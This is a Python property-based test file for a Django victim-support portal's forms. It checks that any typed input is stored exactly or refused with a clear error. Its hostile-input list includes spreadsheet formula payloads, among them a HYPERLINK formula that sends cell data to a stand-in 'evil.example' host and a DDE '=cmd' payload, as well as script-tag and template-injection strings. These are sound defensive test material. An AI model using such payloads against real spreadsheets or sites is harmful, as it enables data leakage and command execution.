"""Whatever a visitor types into a portal form: never a 500, always a clear error or a
stored value that is exactly what was typed (NUL and broken characters refused with the
reason). Property-based, over the form classes and over HTTP to the database."""

import datetime
from typing import Any

import pytest
from django import forms
from django.core.cache import cache
from django.urls import reverse
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from tests.factories import CaseFactory, OrganisationFactory, UserFactory
from victimcare.accounts.capabilities import Role
from victimcare.commissioning.models import ConsultationResponse
from victimcare.commissioning.services import consultation_publish
from victimcare.core.typed_text import unstorable_reason
from victimcare.directory.rules import WHAT_HAPPENED_LABELS
from victimcare.feedback.forms import CodeForm, ComplaintForm, MessageForm, SurveyForm, TrackForm
from victimcare.feedback.models import CaseMessage, Complaint, SurveyInvitation, SurveyResponse
from victimcare.feedback.views import TRACKED
from victimcare.portal import forms as portal
from victimcare.referrals.models import Referral
from victimcare.referrals.partner_forms import PartnerReferralForm

pytestmark = pytest.mark.django_db

HOSTILE = [
    "\udc00",
    "\ud83d",
    "Seren\x00Pryce",
    "\x00",
    "Nia\udc00",
    '=HYPERLINK("http://evil.example/?leak="&A3,"Details")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd",
    "\t=1+1",
    "\r=1+1",
    "Zoë",
    "Ñandú",
    "İstanbul",
    "Straße",
    "ﬀ",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "🙂‍↔️",
    "\u202egnp.exe",
    "\u200b",
    "\ufeff",
    "\uffff",
    "\U0010ffff",
    "O'Brien-Smith",
    "<script>alert(1)</script>",
    "{{ request }}",
    "{% debug %}",
    "%(label)s",
    "%s",
    "a" * 101,
    "é" * 5001,
    "\x00" * 3,
    "line one\r\nline two",
]
EVERY_CODE_POINT = st.characters(exclude_categories=())  # surrogates and controls too
hostile = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(EVERY_CODE_POINT, max_size=60),
    st.builds(
        lambda c, n: c * n,
        st.sampled_from(["a", "é", "🙂", "\x00", " "]),
        st.integers(min_value=90, max_value=6000),
    ),
)
# What can reach the server over HTTP: a browser sends UTF-8, which holds no lone surrogate.
typable = hostile.filter(lambda text: not any("\ud800" <= c <= "\udfff" for c in text))
FUZZ = settings(
    max_examples=40, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck)
)

# Each form, a valid answer for every field, and the fields kept exactly as typed.
FORMS: list[tuple[type[forms.Form], dict[str, Any], tuple[str, ...]]] = [
    (
        portal.NameForm,
        {"given_name": "Seren", "family_name": "Pryce"},
        ("given_name", "family_name"),
    ),
    (portal.DateOfBirthForm, {"dob_day": "27", "dob_month": "3", "dob_year": "1990"}, ()),
    (portal.PostcodeForm, {"postcode": "BS1 4DJ"}, ()),
    (
        portal.ContactForm,
        {
            "phone": "07700 900246",
            "email": "s@example.org",
            "preferred_contact": "phone",
            "safe_message": "yes",
        },
        ("phone",),
    ),
    (
        portal.WhatHappenedOneForm,
        {"what_happened": "violence", "description": "Hit"},
        ("description",),
    ),
    (portal.PoliceForm, {"reported": "yes", "crime_reference": "CR/1"}, ("crime_reference",)),
    (portal.ConsentForm, {"consent": "on"}, ()),
    (portal.WhatHappenedForm, {"what_happened": ["violence"]}, ()),
    (portal.WhatWouldHelpForm, {"needs": ["outlook"]}, ()),
    (
        TrackForm,
        {"reference": "VC-7K3MP-9QXDT", "dob_day": "27", "dob_month": "3", "dob_year": "1990"},
        (),
    ),
    (CodeForm, {"code": "123456"}, ()),
    (MessageForm, {"text": "Hello"}, ("text",)),
    (
        ComplaintForm,
        {"name": "Gwen", "about": "No call back", "phone": "", "email": "", "case_reference": ""},
        ("name", "about", "phone"),
    ),
    (
        SurveyForm,
        {
            "treated_with_respect": "5",
            "support_as_agreed": "5",
            "coordinated_and_effective": "5",
            "overall": "5",
            "comments": "Kind",
        },
        ("comments",),
    ),
    (
        PartnerReferralForm,
        {
            "given_name": "Nia",
            "family_name": "Hughes",
            "safe_to_contact": "yes",
            "incident_type": "crime",
            "crime_category": "Burglary",
            "offence_description": "Shed",
            "reported_to_police": "no",
            "consent": "on",
        },
        ("given_name", "family_name", "offence_description", "contact_notes", "crime_reference"),
    ),
]
FIELDS = [
    (form, valid, name, name in exact) for form, valid, exact in FORMS for name in form.base_fields
]


@pytest.mark.parametrize(
    ("form_class", "valid", "name", "kept_exactly"),
    FIELDS,
    ids=[f"{f.__name__}.{n}" for f, _, n, _ in FIELDS],
)
@FUZZ
@given(text=hostile)
@example(text="\udc00")
@example(text="a\x00b")
def test_any_text_in_any_portal_field_is_kept_exactly_or_refused_with_a_reason(
    form_class: type[forms.Form],
    valid: dict[str, Any],
    name: str,
    kept_exactly: bool,
    text: str,
) -> None:
    form = form_class({**valid, name: text})
    accepted = form.is_valid()
    # The page that shows the form again must be writable as UTF-8: no 500 on the way out.
    (str(form) + str(form.errors) + str(form.non_field_errors())).encode("utf-8")
    if unstorable_reason(text):
        assert not accepted and name in form.errors
        assert "cannot be saved" in " ".join(form.errors[name])
    elif accepted and kept_exactly:
        assert form.cleaned_data[name] == text.strip()
    elif not accepted:
        assert all(
            str(message).strip() for messages in form.errors.values() for message in messages
        )


def _fresh(client) -> None:
    cache.clear()  # rate limits count every example as the same visitor
    client.cookies.clear()


SELF_REFERRAL = [
    ("date-of-birth", {"dob_day": "27", "dob_month": "3", "dob_year": "1990"}),
    ("postcode", {"postcode": "BS1 4DJ"}),
    ("contact", {"phone": "07700 900246", "preferred_contact": "sms", "safe_message": "yes"}),
]


@FUZZ
@given(given_name=typable, family_name=typable, description=typable, reference=typable)
@example(given_name="=1+1", family_name="Pryce", description='=HYPERLINK("x")', reference="CR/26/1")
@example(given_name="Seren\x00", family_name="Pryce", description="", reference="")
def test_a_self_referral_stores_exactly_what_was_typed_or_says_why_not(
    client, northgate, given_name: str, family_name: str, description: str, reference: str
) -> None:
    _fresh(client)
    before = Referral.objects.count()
    answers = [
        ("name", {"given_name": given_name, "family_name": family_name}),
        *SELF_REFERRAL,
        ("what-happened", {"what_happened": "violence", "description": description}),
        ("police", {"reported": "yes", "crime_reference": reference}),
        ("consent", {"consent": "on"}),
    ]
    for step, data in answers:
        response = client.post(reverse(f"portal:refer-{step}"), data)
        if response.status_code == 200:  # refused: the page says what to fix
            assert "There is a problem" in response.content.decode()
            assert Referral.objects.count() == before
            return
        assert response.status_code == 302, step
    sent = client.post(reverse("portal:refer-check"))
    if sent.status_code == 200:
        assert "There is a problem" in sent.content.decode()
        return
    assert sent["Location"] == reverse("portal:refer-done")
    referral = Referral.objects.select_related("person").latest("pk")
    assert (referral.person.given_name, referral.person.family_name) == (
        given_name.strip(),
        family_name.strip(),
    )
    chosen = str(WHAT_HAPPENED_LABELS["violence"])
    assert referral.offence_description == (description.strip() or chosen)
    assert referral.given_crime_reference == reference.strip()


@pytest.fixture
def tracked_case(vco):
    return CaseFactory(
        team=vco.team, officer=vco, referral__person__date_of_birth=datetime.date(1990, 3, 27)
    )


@FUZZ
@given(reference=typable, code=typable, message=typable)
@example(reference="VC-\x00", code="12\x0034", message="=cmd|' /C calc'!A0")
def test_track_my_case_answers_anything_typed_without_failing(
    client, tracked_case, reference: str, code: str, message: str
) -> None:
    _fresh(client)
    asked = client.post(
        reverse("feedback:track"),
        {"reference": reference, "dob_day": "27", "dob_month": "3", "dob_year": "1990"},
    )
    assert asked.status_code in (200, 302)
    if asked.status_code == 302:
        checked = client.post(reverse("feedback:track-code"), {"code": code})
        assert checked.status_code == 200  # a wrong code, said so
        assert "There is a problem" in checked.content.decode()
    session = client.session
    session[TRACKED] = tracked_case.pk
    session.save()
    before = CaseMessage.objects.count()
    sent = client.post(reverse("feedback:track-case"), {"text": message})
    if sent.status_code == 302:
        assert CaseMessage.objects.latest("pk").text == message.strip()
    else:
        assert sent.status_code == 200 and "There is a problem" in sent.content.decode()
        assert CaseMessage.objects.count() == before


@FUZZ
@given(name=typable, about=typable, comments=typable)
@example(name="Gwen\x00", about="-1+1", comments="@SUM(A1)")
def test_complaints_and_surveys_keep_exactly_what_was_typed(
    client, name: str, about: str, comments: str
) -> None:
    _fresh(client)
    before = Complaint.objects.count()
    response = client.post(
        reverse("feedback:complain"), {"name": name, "about": about, "no_reply": "on"}
    )
    if response.status_code == 302:
        complaint = Complaint.objects.latest("pk")
        assert (complaint.name, complaint.about) == (name.strip(), about.strip())
    else:
        assert response.status_code == 200 and "There is a problem" in response.content.decode()
        assert Complaint.objects.count() == before

    invitation = SurveyInvitation.objects.create(case=CaseFactory())
    answers = {
        "treated_with_respect": "5",
        "support_as_agreed": "4",
        "coordinated_and_effective": "3",
        "overall": "5",
        "comments": comments,
    }
    survey = client.post(reverse("feedback:survey", args=[invitation.token]), answers)
    assert survey.status_code == 200
    stored = SurveyResponse.objects.filter(invitation=invitation).first()
    if stored is not None:
        assert stored.comments == comments.strip()
    else:
        assert "There is a problem" in survey.content.decode()


@pytest.fixture
def consultation():
    office = OrganisationFactory(kind="commissioner_office")
    today = datetime.date.today()
    return consultation_publish(
        actor=UserFactory(role=Role.COMMISSIONER, organisation=office),
        values={
            "title": "Victim services",
            "introduction": "Tell us",
            "published": True,
            "opens_on": today - datetime.timedelta(days=1),
            "closes_on": today + datetime.timedelta(days=9),
            "question_list": [("What would help?", ""), ("Anything else?", "")],
        },
    )


@FUZZ
@given(first=typable, second=typable)
@example(first='=HYPERLINK("http://evil.example/?leak="&A3,"Details")', second="")
@example(first="\x00", second="fine")
def test_a_consultation_answer_is_kept_exactly_or_refused_with_a_reason(
    client, consultation, first: str, second: str
) -> None:
    _fresh(client)
    one, two = consultation.questions.order_by("order")
    before = ConsultationResponse.objects.count()
    url = reverse("consultation", args=[consultation.public_id])
    response = client.post(url, {f"q{one.pk}": first, f"q{two.pk}": second})
    if response.status_code == 302:
        kept = ConsultationResponse.objects.latest("pk").answers
        expected = {str(q.pk): t.strip() for q, t in ((one, first), (two, second)) if t.strip()}
        assert kept == expected
    else:
        assert response.status_code == 200 and "There is a problem" in response.content.decode()
        assert ConsultationResponse.objects.count() == before


@pytest.mark.parametrize("url", ["portal:refer-name", "feedback:track", "feedback:complain"])
def test_bytes_that_are_not_utf8_are_answered_not_crashed_on(client, url: str) -> None:
    """A lone surrogate can only arrive as broken UTF-8 bytes: they are read as U+FFFD (the
    replacement character), and the page answers with a refusal or takes the answer."""
    body = b"given_name=%ED%B0%80&family_name=%00&name=%ff%fe&reference=%C0%AF&about=x"
    response = client.generic(
        "POST", reverse(url), body, content_type="application/x-www-form-urlencoded"
    )
    assert response.status_code in (200, 302)
    response.content.decode("utf-8")
